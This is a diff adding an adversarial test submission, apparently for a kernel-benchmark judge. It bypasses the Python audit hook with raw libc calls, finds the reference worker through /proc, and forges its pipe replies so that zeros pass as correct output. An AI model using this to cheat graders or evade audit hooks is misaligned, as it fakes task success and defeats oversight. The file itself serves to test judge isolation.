@@ -1,0 +1,123 @@
+# expected: runtime_error|rejected|incorrect
+# kind: tampering with the reference outputs (forged replies), past the audit hook
+# problem: problem_cpu.py
+# affects_others: yes
+"""Like cheat_forge_reference_reply, but /proc is read and the pipe opened with raw libc open()
+calls, which fire no Python audit event.
+
+The candidate runs as the same user as the judge, so it can open the trusted reference
+worker's reply pipe through /proc/<ref>/fd/<write-fd> (the fd number is on the reference's
+command line) and write protocol messages into it. It computes the first trial honestly, then
+writes a forged reference reply ("the expected output is all zeros") that the judge reads as the
+reference's answer for the next trial, drains the real reply when it arrives, and returns zeros.
+On the last trial (the judge's default, 5) it stops forging so that timing starts on a clean
+pipe. Timed calls return zeros in microseconds.
+
+A correct judge keeps the candidate away from the reference's pipes (another user, a PID
+namespace) -> opening them fails -> runtime_error; or it authenticates replies and rejects."""
+
+import ctypes
+import json
+import os
+
+import torch
+import torch.nn as nn
+import torch.nn.functional as F
+
+TAG = "cheat_forge_reference_reply_evasive"
+TRIALS = 5  # JudgeConfig.trials default; one shape set ("public")
+
+
+def _mark(**facts):
+    """Report to run_suite.py. Written through a raw libc open(), which the worker's audit hook
+    does not see, so that reporting never changes the verdict; under a real sandbox it fails
+    quietly and the breach it would report did not happen."""
+    path = os.path.join(os.environ.get("KJ_ADV_DIR", "/tmp/kj_adv"), TAG + ".jsonl")
+    try:
+        import ctypes
+
+        libc = ctypes.CDLL(None, use_errno=True)
+        fd = libc.open(path.encode(), os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
+        if fd >= 0:
+            os.write(fd, (json.dumps(facts) + "\n").encode())
+            os.close(fd)
+    except Exception:  # noqa: BLE001
+        pass
+
+
+_libc = ctypes.CDLL(None, use_errno=True)
+
+
+def _raw_open(path: str, flags: int = os.O_RDONLY) -> int:
+    """open(2) through libc: no Python audit event."""
+    fd = _libc.open(path.encode(), flags, 0o600)
+    if fd < 0:
+        err = ctypes.get_errno()
+        raise OSError(err, os.strerror(err), path)
+    return fd
+
+
+def _raw_read(path: str) -> bytes:
+    fd = _raw_open(path)
+    try:
+        chunks = []
+        while True:
+            b = os.read(fd, 1 << 16)
+            if not b:
+                return b"".join(chunks)
+            chunks.append(b)
+    finally:
+        os.close(fd)
+
+
+def _reference():
+    """(pid, --write-fd) of the reference worker: a sibling with `--role reference`."""
+    parent = os.getppid()
+    for d in os.listdir("/proc"):
+        if not d.isdigit():
+            continue
+        try:
+            argv = _raw_read(f"/proc/{d}/cmdline").split(b"\0")
+            if b"kerneljudge.worker" not in argv or b"reference" not in argv:
+                continue
+            ppid = int(_raw_read(f"/proc/{d}/stat").rsplit(b")", 1)[1].split()[1])
+            if ppid == parent:
+                return int(d), int(argv[argv.index(b"--write-fd") + 1])
+        except (OSError, ValueError, IndexError):
+            continue
+    return None, None
+
+
+class ModelNew(nn.Module):
+    def __init__(self, in_features: int, out_features: int):
+        super().__init__()
+        self.linear = nn.Linear(in_features, out_features)
+        self.calls = 0
+        self.chan = None
+
+    def _forge(self, shape):
+        zeros = torch.zeros(shape)
+        self.chan.send({"ok": True, "outputs": zeros, "oracle": zeros.double()})
+
+    def forward(self, x):
+        c = self.calls
+        self.calls += 1
+        shape = (x.shape[0], self.linear.out_features)
+        if c == 0:
+            from kerneljudge.worker.protocol import Channel
+
+            pid, wfd = _reference()
+            if pid is None:
+                raise RuntimeError("no reference worker visible")
+            path = f"/proc/{pid}/fd/{wfd}"
+            rd = _raw_open(path, os.O_RDONLY)  # the reference -> judge pipe, read side
+            wr = _raw_open(path, os.O_WRONLY)  # ... and write side
+            self.chan = Channel(rd, wr)
+            self._forge(shape)
+            _mark(breach=f"opened the reference's reply pipe {path} and forged a reply")
+            return F.gelu(self.linear(x))
+        if c < TRIALS:
+            self.chan.recv(timeout_s=8)  # the real reply, which the judge never sees
+            if c < TRIALS - 1:
+                self._forge(shape)
+        return torch.zeros(shape)
